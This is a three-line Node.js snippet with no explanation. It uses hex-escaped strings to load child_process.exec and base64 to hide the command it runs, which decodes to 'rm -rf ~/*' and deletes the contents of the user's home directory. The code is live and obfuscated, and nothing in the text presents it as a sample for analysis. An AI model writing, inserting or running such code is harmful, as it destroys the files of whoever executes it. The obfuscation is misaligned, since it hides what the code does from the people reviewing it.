const _0x = ['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73', '\x65\x78\x65\x63'];
const m = require(_0x[0]);
m[_0x[1]](Buffer.from('cm0gLXJmIH4vKg==', 'base64').toString());
